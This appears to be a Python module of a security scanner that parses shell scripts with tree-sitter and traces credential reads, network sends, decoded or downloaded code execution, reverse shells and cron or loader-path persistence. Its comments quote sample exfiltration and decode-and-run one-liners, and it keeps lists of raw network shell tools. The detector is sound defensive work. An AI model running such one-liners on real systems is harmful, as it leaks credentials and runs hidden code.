"""Shell read with tree-sitter's bash grammar: commands, pipelines, substitutions and redirects,
followed for what they do with data.

The walk carries, for every pipeline stage, variable and file, what sensitive data (a
:class:`~chimera_cards._scan.sensitive.Taint`) and what kind of content (decoded, downloaded) it
holds, so ``X=$(cat ~/.aws/credentials | base64); curl -d "$X" https://h`` is one flow from a
credential store to the network, and ``echo … | base64 -d | sh`` is decoded data run. One-liners
(``bash -c``, ``eval``, ``python -c``, ``node -e``, heredocs fed to an interpreter) are read as the
language they run. The facts it gathers (sends, reads, commands run) are graded by
:mod:`chimera_cards._scan.sensitive` and the rules in :mod:`chimera_cards._scan.commands`.
"""

from __future__ import annotations

import functools
import re
from typing import Any

from chimera_cards._scan.sensitive import (
    Send,
    Taint,
    credential_in,
    helper_secret,
    host_of,
)
from chimera_cards._scan.shellfacts import (
    MAX_COMMANDS,
    Command,
    Embed,
    Out,
    ShellFacts,
    Word,
    basename,
    copy_destination,
)
from chimera_cards._scan.shellsteps import (
    IFS_RE,
    LISTERS,
    Relays,
    arguments_after,
    dumps_env,
    file_argument,
    file_server,
    letter_cipher,
    option_value,
)
from chimera_cards._scan.shellwalk import _HEX_ESCAPES_RE, _interpreter, _WalkerBase
from chimera_cards._scan.uploads import CLOUD_CLIS, REMOTE_RE, cloud_upload, git_push

# Deepest nesting of one-liners read (``bash -c "eval \"$(…)\""``): each level is a new parse.
MAX_DEPTH = 4
# Sizes of the pieces a long text is parsed in (see _chunks).
CHUNK = 32_768
LONG_LINE = 2_048


@functools.lru_cache(maxsize=1)
def _parser() -> Any:
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


def parse_shell(text: str) -> Any:
    """The tree-sitter tree of a shell text (its bytes are UTF-8)."""
    return _parser().parse(text.encode("utf-8", "surrogatepass"))


_WRAPPERS = frozenset(
    {
        "sudo",
        "doas",
        "env",
        "nohup",
        "time",
        "nice",
        "ionice",
        "timeout",
        "command",
        "builtin",
        "exec",
        "stdbuf",
        "setsid",
        "unbuffer",
        "chronic",
        "caffeinate",
        "torsocks",
        "proxychains",
        "proxychains4",
        "su",
    }
)
# Commands whose path arguments are not read for their content.
_NOT_READING = frozenset(
    {
        "chmod",
        "chown",
        "chgrp",
        "mkdir",
        "rmdir",
        "rm",
        "touch",
        "ls",
        "stat",
        "test",
        "[",
        "[[",
        "ssh-keygen",
        "ssh",
        "ssh-add",
        "ssh-copy-id",
        "git",
        "echo",
        "printf",
        "cd",
        "export",
        "source",
        ".",
        "mv",
        "ln",
        "file",
        "which",
        "type",
        "realpath",
        "dirname",
        "basename",
        "du",
        "docker",
        "kubectl",
        "helm",
        "aws",
        "gcloud",
        "az",
        "terraform",
        "npm",
        "pip",
        "pip3",
        "code",
        "vim",
        "vi",
        "nano",
        "open",
        "wc",
        "diff",
        "mount",
        "umount",
        "python",
        "python3",
        "node",
        "unset",
        "read",
    }
)
_CLIPBOARD = frozenset(
    {"pbcopy", "xclip", "xsel", "wl-copy", "clip", "clip.exe", "termux-clipboard-set"}
)
_MAILERS = frozenset({"mail", "mailx", "sendmail", "mutt", "msmtp", "ssmtp"})
_DNS = frozenset({"dig", "nslookup", "host", "ping", "drill", "resolvectl"})
_RAW_NET = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "cryptcat", "pwncat"})
_COPIERS = frozenset({"scp", "rsync", "sftp", "rclone", "croc"})
_SHORT_OUTPUT_RE = re.compile(r"^-[a-zA-Z]+[oO]$")

_CURL_DATA = frozenset(
    {
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "--json",
    }
)
_CURL_HEADER = frozenset({"-H", "--header", "-u", "--user", "--oauth2-bearer", "-b", "--cookie"})
_CURL_ARG_OPTS = frozenset(
    {
        "-o",
        "--output",
        "-X",
        "--request",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-w",
        "--write-out",
        "-x",
        "--proxy",
        "--retry",
        "-c",
        "--cookie-jar",
        "-K",
        "--config",
        "--cacert",
        "--cert",
        "--key",
        "-E",
        "--resolve",
        "--url",
        "-r",
        "--range",
        "-Y",
        "-y",
        "--limit-rate",
        "-C",
        "--output-dir",
    }
)
_WGET_DATA = frozenset({"--post-data", "--post-file", "--body-data", "--body-file"})
_WGET_ARG_OPTS = frozenset(
    {
        "-O",
        "--output-document",
        "-P",
        "--directory-prefix",
        "-o",
        "-a",
        "--header",
        "-U",
        "--user-agent",
        "-e",
        "-t",
        "-T",
        "--method",
    }
)
_HOSTISH_RE = re.compile(
    r"^(?:[\w.+-]+@)?((?:[A-Za-z0-9-]+\.)+[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:/|$)"
)
_ASSIGN_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")


# --- commands --------------------------------------------------------------------------


def _builds(name: str, argv: list[str]) -> bool:
    """Whether a command builds the source tree it runs in (make, ninja, cmake --build, cargo
    build, go build)."""
    if name in ("make", "gmake", "ninja"):
        return True
    if name == "cmake":
        return "--build" in argv
    return name in ("cargo", "go") and argv[:1] == ["build"]


class _Walker(Relays, _WalkerBase):
    """The walk over a shell unit: each command, what it runs and where its data goes."""

    def command(self, node: Any, stdin: Out) -> Out:
        words: list[Word] = []
        assigns: list[str] = []
        for child in node.named_children:
            if child.type == "variable_assignment":
                assigns.append(child.text.decode("utf-8", "replace"))
                self.assign(child)
            elif child.type == "command_name":
                words.extend(self.word(c) for c in child.named_children)
            elif child.type == "herestring_redirect":
                # source /dev/stdin <<< "$(curl …)": the here-string is what the command reads.
                stdin = stdin.copy()
                for part in child.named_children:
                    stdin.merge(self.word(part).out)
            elif child.type in ("file_redirect", "heredoc_redirect"):
                continue
            else:
                words.append(self.word(child))
        words = self.unwrap(self.realias(words), assigns)
        if not words:
            return Out()
        if words[0].out.decoded or words[0].out.downloaded:
            # $(echo Y3VybA== | base64 -d) ...: the command itself is hidden.
            self._ran_line(self.line(node), words[0].out, "a command decoded at run time")
        known = (
            self.saved(words[0].text)
            or self._extracted(words[0].text, building=True)
            or self._on_path(words[0].text, self.line(node))
        )
        if known is not None and (known.decoded or known.downloaded):
            # curl -o /tmp/x URL && chmod +x /tmp/x && /tmp/x: a downloaded program run.
            hidden = basename(words[0].text).startswith(".")
            self._ran_line(
                self.line(node), known, ("piped into " if hidden else "") + words[0].text
            )
        name = basename(words[0].text)
        cmd = Command(name, words[1:], self.line(node), assigns, stdin)
        if len(self.facts.commands) < MAX_COMMANDS:
            self.facts.commands.append(cmd)
        return self.run(cmd, stdin)

    def unwrap(self, words: list[Word], assigns: list[str]) -> list[Word]:
        # sudo -E -u user env A=1 nohup curl ...: the command is curl.
        for _ in range(8):
            if not words:
                return words
            head = basename(words[0].text)
            if head not in _WRAPPERS or len(words) == 1:
                return words
            rest = words[1:]
            if head == "su":
                return words  # su -c is read as a one-liner by run()
            while rest and (rest[0].text.startswith("-") or _ASSIGN_RE.match(rest[0].text)):
                flag = rest.pop(0).text
                if _ASSIGN_RE.match(flag):
                    assigns.append(flag)
                elif head in ("sudo", "doas") and flag in ("-u", "-g", "-C", "-h", "-p"):
                    if rest:
                        rest.pop(0)
                elif head in ("nice", "ionice") and flag in ("-n", "-c") and rest:
                    rest.pop(0)
            if head == "timeout" and rest and rest[0].text[:1].isdigit():
                rest.pop(0)
            if not rest:
                return words[:1]  # a bare ``env`` or ``export``: the command itself
            words = rest
        return words

    def run(self, cmd: Command, stdin: Out) -> Out:
        name, args = cmd.name, cmd.args
        out = stdin.copy()
        for arg in args:
            out.merge(arg.out)
        # What it reads: credential files and files an earlier step filled with secrets.
        if name not in _NOT_READING:
            written = copy_destination(cmd)
            for arg in args:
                # Flags name no file to read, except curl's @file forms (-d @f, -F x=@f).
                if (
                    arg.text.startswith("-")
                    and "=@" not in arg.text
                    and not arg.text.startswith("@")
                ) or arg is written:
                    continue
                out.merge(self.read_path(Word(file_argument(arg.text), Out()), cmd.line))
        for taint in list(out.taint):
            if taint.kind == "path":
                out.taint.discard(taint)
        if name in LISTERS:
            self.listing(cmd, out)
        elif name in ("read", "mapfile", "readarray"):
            self.read_into(cmd, stdin)
        if dumps_env(name, cmd.argv):
            out.taint.add(Taint("env-all", f"{name} (every environment variable)"))
        if (
            name == "security"
            and args
            and args[0].text
            in ("find-generic-password", "find-internet-password", "dump-keychain", "export")
        ):
            taint = Taint("credential", f"macOS keychain ({args[0].text})")
            out.taint.add(taint)
            self.facts.reads.append((cmd.line, taint))
        helper = helper_secret(name, cmd.argv)
        if helper is not None:
            out.taint.add(helper)
            if helper.kind == "credential":  # a token for one service reads like its variable
                self.facts.reads.append((cmd.line, helper))
            saved = self._output_file(cmd) or option_value(cmd.argv, ("--outfile",))
            if saved:  # bw export --output /tmp/v.json: the vault is in that file now
                self.write(saved, Out(taint={helper}), cmd.line)
        if name == "cd" and args:
            self.cwd = args[0].text
            if self._extracted(self.cwd.rstrip("/") + "/") is not None:
                # git clone URL dir && cd dir && ./install.sh: the folder is the download.
                self.facts.tainted_files.setdefault("./", Out()).downloaded = True
        if _builds(name, cmd.argv):
            here = self.facts.tainted_files.get("./")
            if here is not None and here.downloaded:
                # git clone URL && cd dir && make: the build already runs the tree's own code
                # (its Makefile), as a shown build from source; a program it made, run next,
                # is no first run of code nobody reviewed.
                here.downloaded = False
        served = file_server(name, cmd.argv, self.cwd, cmd.line)
        if served is not None:
            self.facts.sends.append(served)
        if name == "git":
            self._git_clone(cmd.argv)
            self._git_forced(cmd.argv, cmd.line)
            files = [out.taint for out in self.facts.tainted_files.values()]
            if "commit" in cmd.argv[:3]:
                # git commit -m "$(cat ~/.netrc)": the message travels with every push.
                for arg in args:
                    self.committed |= arg.out.taint
            pushes = git_push(cmd.argv, cmd.line, self.remotes, files)
            for push in pushes:
                push.body |= {t for t in self.committed if t.kind != "path"}
            self.facts.sends += pushes
        self.relays(cmd, stdin, out)
        self.decoders(cmd, out)
        self.interpreters(cmd, stdin, out)
        self.code_in_words(cmd, stdin)
        self.network(cmd, stdin, out)
        self.copies(cmd, out)
        if (name in ("curl", "wget") and not self._has_output_file(cmd)) or name in _RAW_NET:
            out.downloaded = True  # what comes off the network (nc -l … | bash runs it)
        if name in ("curl", "wget", "aria2c", "fetch"):
            target = self._output_file(cmd)
            if target:
                self.facts.tainted_files.setdefault(target, Out()).downloaded = True
        if name in (
            "less",
            "more",
            "cat",
            "head",
            "view",
            "vim",
            "vi",
            "nano",
            "bat",
            "code",
            "open",
        ):
            for arg in args:
                known = self.facts.tainted_files.get(arg.text)
                if known is not None and known.downloaded and not known.taint:
                    # Shown to the user before it runs: a reviewed download.
                    known.downloaded = False
        if name == "tee":  # echo "deb URL main" | sudo tee FILE: the stage before is written
            for arg in args:
                if not arg.text.startswith("-"):
                    self.write(arg.text, out, cmd.line, self.piped)
        return out

    def decoders(self, cmd: Command, out: Out) -> None:
        name, argv = cmd.name, cmd.argv
        decoded = (
            (
                name in ("base64", "gbase64")
                and any(
                    a in ("-d", "--decode", "-D")
                    or (a.startswith("-") and not a.startswith("--") and "d" in a)
                    for a in argv
                )
            )
            or (name == "xxd" and any(a.startswith("-r") for a in argv))
            or (name == "openssl" and "-d" in argv)
            or (name in ("uudecode", "base32") and "-d" in argv)
            or (name in ("printf", "echo") and any(_HEX_ESCAPES_RE.search(a) for a in argv))
            # A text reversed back to be read: only ever a way to hide what it says.
            or name == "rev"
            or (name == "tr" and (cmd.stdin.decoded or letter_cipher(argv)))
        )
        if decoded:
            out.decoded = True

    def _run_code(
        self, language: str, code: str, line: int, stdin: Out, how: str, argv: Out | None = None
    ) -> Out:
        self.facts.embedded.append((language, code, line))
        if language == "shell" and self.depth < MAX_DEPTH:
            variables = self.vars
            if argv is not None and argv.taint:
                # sh -c 'curl -T "$1" URL' _ {}: the positional parameters hold the arguments.
                variables = {**self.vars, **{str(n): argv for n in range(10)}, "@": argv}
                variables["*"] = argv
            inner = analyse_shell(
                code,
                first_line=line,
                depth=self.depth + 1,
                variables=variables,
                tainted_files=self.facts.tainted_files,
                embed=self.embed,
                facts=self.facts,
            )
            return inner
        if self.embed is not None and language in ("python", "javascript", "other"):
            return self.embed(language, code, line, argv if argv is not None else Out())
        return Out()

    def code_in_words(self, cmd: Command, stdin: Out) -> None:
        """Code that runs from an argument or a variable rather than a file: an awk program
        (gawk opens network connections itself), a cron table's line an echo writes (what it
        schedules runs later, unattended), and a download put on a loader's path
        (``PYTHONPATH=/tmp/x.zip python -m x``, ``LD_PRELOAD``) runs when the command starts."""
        name, args = cmd.name, cmd.args
        if name in _AWKS:
            program = _awk_program(args)
            if program is not None:
                self._run_code("other", program, cmd.line, stdin, name)
        elif name in ("echo", "printf"):
            for arg in args:
                entry = _CRON_ENTRY_RE.match(arg.text)
                if entry is not None:
                    self._run_code("shell", entry.group(1), cmd.line, stdin, "a cron entry")
        elif name == "crontab":
            # crontab FILE: a table this unit wrote, each line's command
            tables = {a.text for a in args if not a.text.startswith("-")}
            for line, where, _content, text in list(self.facts.writes):
                for entry in (_CRON_ENTRY_RE.match(row) for row in text.split("\n")):
                    if where in tables and entry is not None:
                        self._run_code("shell", entry.group(1), line, stdin, "a cron entry")
        assigns = list(cmd.assigns)
        # export PYTHONPATH=… earlier in the unit: in force for the interpreters run after it
        assigns += [
            f"{variable}={value}"
            for variable, value in self.texts.items()
            if variable in _LOADER_PATHS
            and (_interpreter(name) is not None or variable.startswith(("LD_", "DYLD_")))
        ]
        for assign in assigns:
            variable, _, value = assign.partition("=")
            if variable not in _LOADER_PATHS:
                continue
            for part in re.split(r"[:;\s]+", value):
                known = self.facts.tainted_files.get(part.strip("'\""))
                if known is not None and (known.downloaded or known.decoded):
                    self._ran(cmd, known, f"{name} with {variable}={part}")

    def interpreters(self, cmd: Command, stdin: Out, out: Out) -> None:
        name, args = cmd.name, cmd.args
        language = _interpreter(name)
        code_word: Word | None = None
        if name == "eval":
            code_word = Word(" ".join(a.text for a in args), Out())
            for arg in args:
                code_word.out.merge(arg.out)
            language = "shell"
        elif name in ("source", ".") and args:
            target = args[0]
            if target.out.decoded or target.out.downloaded or target.text in ("/dev/stdin", "-"):
                self._ran(
                    cmd, target.out if target.text not in ("/dev/stdin", "-") else stdin, name
                )
            known = self.facts.tainted_files.get(target.text)
            if known is not None:
                self._ran(cmd, known, name)
            return
        elif language is not None:
            flags = {
                "shell": ("-c",),
                "python": ("-c",),
                "javascript": ("-e", "--eval", "-p", "--print"),
                "other": ("-e", "-E", "-r", "-Command", "-c"),
            }[language]
            for index, arg in enumerate(args):
                if arg.text in flags and index + 1 < len(args):
                    code_word = args[index + 1]
                    break
                if (
                    language == "shell"
                    and arg.text.startswith("-")
                    and "c" in arg.text[1:]
                    and not arg.text.startswith("--")
                ):
                    if index + 1 < len(args):
                        code_word = args[index + 1]
                    break
        elif name == "git":
            self.git_runs(cmd, stdin, out)
            return
        elif name == "su":
            for index, arg in enumerate(args):
                if arg.text == "-c" and index + 1 < len(args):
                    code_word, language = args[index + 1], "shell"
        elif name == "xargs":
            self._xargs_command(cmd, stdin)
            # xargs sh -c '...': the shell runs its input.
            rest = [a for a in args if not a.text.startswith("-")]
            if rest and stdin.decoded and not _interpreter(basename(rest[0].text)):
                # decoded text handed to a command as its arguments: what it runs is hidden
                self._ran(cmd, stdin, f"xargs {rest[0].text}")
                return
            if (
                rest
                and _interpreter(basename(rest[0].text))
                and (stdin.decoded or stdin.downloaded)
            ):
                self._ran(cmd, stdin, f"xargs {rest[0].text}")
            return
        if language is None:
            return
        if code_word is not None:
            if code_word.out.decoded or code_word.out.downloaded:
                self._ran(cmd, code_word.out, name)
            argv = arguments_after(args, code_word)
            out.merge(self._run_code(language, code_word.text, cmd.line, stdin, name, argv))
            return
        heredoc = self.pending_heredoc
        if heredoc is not None:
            self.pending_heredoc = None
            if language != "other":
                out.merge(self._run_code(language, heredoc[0], heredoc[1], stdin, name))
            return
        script = next((a for a in args if not a.text.startswith("-")), None)
        if script is None or script.text in ("-", "/dev/stdin"):
            if stdin.decoded or stdin.downloaded:
                # Piped straight in: nothing of it was ever on disk to look at.
                self._ran(cmd, stdin, f"piped into {name}")
            return
        if script.out.decoded or script.out.downloaded:
            self._ran(cmd, script.out, name)
        known = self.saved(script.text) or self._extracted(script.text)
        if known is not None and (known.decoded or known.downloaded):
            self._ran(cmd, known, f"{name} {script.text}")

    def _ran(self, cmd: Command, what: Out, how: str) -> None:
        self._ran_line(cmd.line, what, how)

    def _ran_line(self, line: int, what: Out, how: str) -> None:
        if what.decoded:
            self.facts.decode_exec.append((line, how))
        elif what.downloaded:
            self.facts.download_exec.append((line, how))

    def network(self, cmd: Command, stdin: Out, out: Out) -> None:
        name, args = cmd.name, cmd.args
        if name == "curl":
            self.curl(cmd, stdin)
        elif name == "wget":
            self.wget(cmd, stdin)
        elif name in _RAW_NET:
            hosts = [a.text for a in args if not a.text.startswith("-") and not a.text.isdigit()]
            body = set(stdin.taint)
            for arg in args:
                body |= arg.out.taint
            if any(a.text in ("-e", "-c", "--exec", "--sh-exec") for a in args) or any(
                "exec:" in a.text or "EXEC:" in a.text for a in args
            ):
                self.facts.reverse_shell.append((cmd.line, " ".join([name, *cmd.argv])[:120]))
            if any(a.text in ("-l", "-lp", "-lvp", "-lnvp", "--listen") for a in args):
                return
            if (
                any(
                    a.text.startswith("-") and "z" in a.text and not a.text.startswith("--")
                    for a in args
                )
                and not body
            ):
                return  # nc -z: a port check, nothing is sent
            self.facts.sends.append(Send(cmd.line, hosts[0] if hosts else None, name, body=body))
        elif name in _MAILERS:
            body = set(stdin.taint)
            for arg in args:
                body |= arg.out.taint
            rcpt = next((a.text for a in args if "@" in a.text), None)
            host = rcpt.rsplit("@", 1)[-1] if rcpt else None
            self.facts.sends.append(Send(cmd.line, host, name, body=body))
        elif name in _DNS:
            tainted = set()
            for arg in args:
                tainted |= arg.out.taint
            if tainted:
                self.facts.sends.append(Send(cmd.line, "a DNS lookup", name, body=tainted))
        elif name in _CLIPBOARD:
            self.facts.sends.append(
                Send(cmd.line, None, name, body=set(stdin.taint), sink="clipboard")
            )
        elif name == "ssh":
            rest = [a for a in args if not a.text.startswith("-")]
            if rest and (stdin.taint or any(a.out.taint for a in rest[1:])):
                body = set(stdin.taint)
                for arg in rest[1:]:
                    body |= arg.out.taint
                remote = REMOTE_RE.match(rest[0].text + ":")
                self.facts.sends.append(
                    Send(cmd.line, remote.group(1) if remote else rest[0].text, "ssh", body=body)
                )
        elif name in CLOUD_CLIS and (
            upload := cloud_upload(name, cmd.argv, cmd.line, stdin.taint, self.read_taint)
        ):
            self.facts.sends.append(upload)
        elif name in _COPIERS:
            self.copier(cmd, stdin)

    def copier(self, cmd: Command, stdin: Out) -> None:
        args = [a for a in cmd.args if not a.text.startswith("-")]
        remote = [
            a for a in args if REMOTE_RE.match(a.text) or a.text.startswith(("s3://", "gs://"))
        ]
        if not remote:
            return
        dest = remote[-1]
        if args and args[-1] is not dest and cmd.name != "rclone":
            return  # copying from a remote to here is a download
        body: set[Taint] = set(stdin.taint)
        for arg in args:
            if arg is dest:
                continue
            body |= arg.out.taint
            body |= self.read_path(Word(arg.text, Out()), cmd.line).taint
        match = REMOTE_RE.match(dest.text)
        host = match.group(1) if match else dest.text.split("/")[2] if "://" in dest.text else None
        self.facts.sends.append(Send(cmd.line, host, cmd.name, body=body))

    def copies(self, cmd: Command, out: Out) -> None:
        # cp/tar/zip of a credential store: the copy holds the secrets too.
        copiers = ("cp", "tar", "zip", "7z", "gzip", "rsync", "ditto", "install", "gpg", "openssl")
        if cmd.name in copiers and out.taint:
            for arg in cmd.args:
                if not arg.text.startswith("-") and not credential_in(arg.text):
                    self.write(arg.text, out, cmd.line)

    @staticmethod
    def _output_file(cmd: Command) -> str | None:
        argv = cmd.argv
        for index, arg in enumerate(argv):
            if arg in ("-o", "--output", "-O", "--output-document") and index + 1 < len(argv):
                return argv[index + 1]
            if _SHORT_OUTPUT_RE.match(arg) and index + 1 < len(argv):  # wget -qO f, curl -sLo f
                return argv[index + 1]
            if arg.startswith("--output=") or arg.startswith("--output-document="):
                return arg.split("=", 1)[1]
        return None

    def _has_output_file(self, cmd: Command) -> bool:
        return self._output_file(cmd) is not None or any(
            a in ("-O", "--remote-name", "-LO", "-sLO", "-fsSLO") for a in cmd.argv
        )

    def curl(self, cmd: Command, stdin: Out) -> None:
        args = cmd.args
        body: set[Taint] = set()
        header: set[Taint] = set()
        urls: list[Word] = []
        sends = False
        index = 0
        while index < len(args):
            word = args[index]
            text = word.text
            value: Word | None = None
            if text[:1] == "-" and text[1:2] != "-" and len(text) > 2 and text[1:].isalpha():
                # -sT file, -fsSLX POST: a cluster's last letter is the one given the value
                text = text if text[:2] in _CURL_DATA | _CURL_HEADER else f"-{text[-1]}"
            flag = text
            if text.startswith("--") and "=" in text:
                flag, _, rest = text.partition("=")
                value = Word(rest, word.out)
            elif (
                text.startswith("-")
                and not text.startswith("--")
                and len(text) > 2
                and text[:2] in _CURL_DATA | _CURL_HEADER
            ):
                flag, value = text[:2], Word(text[2:], word.out)
            elif text in _CURL_DATA | _CURL_HEADER | _CURL_ARG_OPTS and index + 1 < len(args):
                value = args[index + 1]
                index += 1
            if flag in _CURL_DATA and value is not None:
                data = value.out.taint | self._data_file(value.text, stdin, cmd.line)
                sends = sends or bool(data) or not any(a.text in ("-G", "--get") for a in args)
                body |= data  # with -G the data is the URL's query: a send only when sensitive
            elif flag in _CURL_HEADER and value is not None:
                header |= value.out.taint
                if value.text.startswith("@"):
                    body |= self._data_file(value.text, stdin, cmd.line)
            elif flag in ("-X", "--request") and value is not None:
                sends = sends or value.text.upper() in ("POST", "PUT", "PATCH")
            elif flag == "--url" and value is not None:
                urls.append(value)
            elif value is None and not text.startswith("-"):
                urls.append(word)
            index += 1
        url_taint: set[Taint] = set()
        for url in urls:
            url_taint |= url.out.taint
        if url_taint:
            sends = True
            body |= url_taint
        if not sends and not header:
            return
        host = next((h for h in (host_of(u.text) or _bare_host(u.text) for u in urls) if h), None)
        self.facts.sends.append(Send(cmd.line, host, "curl", body, header, text=cmd.written))

    def _data_file(self, value: str, stdin: Out, line: int) -> set[Taint]:
        # -d @file, -F name=@file, -F name=<file, -T file: the file's content is sent.
        at = value.find("@")
        lt = value.find("=<")
        path = None
        if value == "-":  # -T -: what the pipe brings
            return set(stdin.taint)
        if value.startswith("@"):
            path = value[1:]
        elif at > 0 and value[at - 1] == "=":
            path = value[at + 1 :]
        elif lt > 0:
            path = value[lt + 2 :]
        elif (
            "=" not in value
            and not value.startswith(("{", "["))
            and ("/" in value or value.startswith(("~", ".")))
        ):
            path = value  # -T path
        if path is None:
            return set()
        path = path.split(";", 1)[0]
        if path == "-":
            return set(stdin.taint)
        return self.read_path(Word(path, Out()), line).taint

    def wget(self, cmd: Command, stdin: Out) -> None:
        body: set[Taint] = set()
        header: set[Taint] = set()
        urls: list[Word] = []
        sends = False
        args = cmd.args
        index = 0
        while index < len(args):
            word = args[index]
            flag, _, rest = word.text.partition("=")
            value = Word(rest, word.out) if rest else None
            if value is None and flag in _WGET_DATA | _WGET_ARG_OPTS and index + 1 < len(args):
                value = args[index + 1]
                index += 1
            if flag in _WGET_DATA and value is not None:
                sends = True
                body |= value.out.taint
                if flag.endswith("-file"):
                    body |= self.read_path(Word(value.text, Out()), cmd.line).taint
            elif flag == "--header" and value is not None:
                header |= value.out.taint
            elif flag == "--method" and value is not None:
                sends = sends or value.text.upper() in ("POST", "PUT", "PATCH")
            elif value is None and not word.text.startswith("-"):
                urls.append(word)
            index += 1
        for url in urls:
            if url.out.taint:
                sends = True
                body |= url.out.taint
        if sends:
            host = next(
                (h for h in (host_of(u.text) or _bare_host(u.text) for u in urls) if h), None
            )
            self.facts.sends.append(Send(cmd.line, host, "wget", body, header, text=cmd.written))


_AWKS = frozenset({"awk", "gawk", "mawk", "nawk", "busybox-awk"})
_AWK_VALUE_OPTIONS = frozenset({"-F", "-v", "-f", "--field-separator", "--assign", "--file"})
# A crontab line: five schedule fields (or @reboot, @daily …), then the command it runs.
_CRON_ENTRY_RE = re.compile(
    r"^\s*(?:@(?:reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)|"
    r"(?:[\d*/,-]+\s+){4}[\d*/,a-zA-Z-]+)\s+(\S.*)$",
    re.S,
)
# Variables whose value a program loads code from when it starts.
_LOADER_PATHS = frozenset(
    {"PYTHONPATH", "PYTHONSTARTUP", "NODE_PATH", "NODE_OPTIONS", "PERL5LIB", "PERL5OPT",
     "RUBYLIB", "RUBYOPT", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "BASH_ENV"}
)  # fmt: skip


def _awk_program(args: list[Word]) -> str | None:
    """The program text of an awk command line (None when it is read from a file)."""
    skip = False
    for arg in args:
        text = arg.text
        if skip:
            skip = False
        elif text in ("-f", "--file") or text.startswith("-f"):
            return None
        elif text in _AWK_VALUE_OPTIONS:
            skip = True
        elif text == "--" or not text.startswith("-"):
            return None if text == "--" else text
    return None


def _bare_host(text: str) -> str | None:
    match = _HOSTISH_RE.match(text)
    return match.group(1).lower() if match else None


def analyse_shell(
    text: str,
    *,
    first_line: int = 1,
    depth: int = 0,
    variables: dict[str, Out] | None = None,
    tainted_files: dict[str, Out] | None = None,
    embed: Embed | None = None,
    facts: ShellFacts | None = None,
) -> Out:
    """Walk a shell text; what it does is added to ``facts`` (a new one if None).

    Args:
        text: the shell source.
        first_line: the file line of its first line.
        depth: how many one-liners deep this text is.
        variables: variables known before it (what each holds), updated as it assigns.
        tainted_files: files earlier steps wrote sensitive or decoded data to (path -> content).
        embed: reads code of another language run from the shell (``python -c``), returning
            what it prints.
        facts: where to gather the facts.
    Returns:
        What the text's last statement writes to its output.
    """
    own = facts if facts is not None else ShellFacts()
    if tainted_files is not None and tainted_files is not own.tainted_files:
        own.tainted_files.update(tainted_files)
    walker = _Walker(
        own,
        first_line=first_line,
        depth=depth,
        variables=variables if variables is not None else {},
        embed=embed,
    )
    out = Out()
    if "IFS" in text:
        # curl${IFS}-d${IFS}@file: unquoted, $IFS splits words as a space does (same width,
        # so lines and columns stay).
        text = IFS_RE.sub(lambda m: " " * len(m.group(0)), text)
    for offset, chunk in _chunks(text):
        walker.first_line = first_line + offset
        for node in parse_shell(chunk).root_node.named_children:
            try:
                out = walker.statement(node, Out())
            except RecursionError:
                own.too_deep = True
    own.output = out
    return out


def _chunks(text: str) -> list[tuple[int, str]]:
    """The text in pieces tree-sitter parses in linear time: its bash grammar is quadratic on
    one very long pipeline or list, so a long text is parsed in runs of whole lines and a very
    long line in pieces cut at a separator. (line offset, piece) each."""
    if len(text) <= CHUNK:
        return [(0, text)]
    chunks: list[tuple[int, str]] = []
    current: list[str] = []
    start = size = 0
    for number, line in enumerate(text.split("\n")):
        if len(line) > LONG_LINE:
            if current:
                chunks.append((start, "\n".join(current)))
                current, size = [], 0
            at = 0
            while at < len(line):
                end = min(len(line), at + LONG_LINE)
                if end < len(line):
                    cut = max(line.rfind(sep, at, end) for sep in ("|", ";", "&", " "))
                    end = cut + 1 if cut > at else end
                chunks.append((number, line[at:end]))
                at = end
            start = number + 1
            continue
        if size + len(line) > CHUNK and current:
            chunks.append((start, "\n".join(current)))
            current, size, start = [], 0, number
        current.append(line)
        size += len(line) + 1
    if current:
        chunks.append((start, "\n".join(current)))
    return chunks


def shell_facts(
    text: str,
    *,
    first_line: int = 1,
    tainted_files: dict[str, Out] | None = None,
    embed: Embed | None = None,
) -> ShellFacts:
    """The facts of one shell unit (a script, a code block, a one-liner)."""
    facts = ShellFacts()
    analyse_shell(
        text, first_line=first_line, tainted_files=tainted_files, embed=embed, facts=facts
    )
    return facts
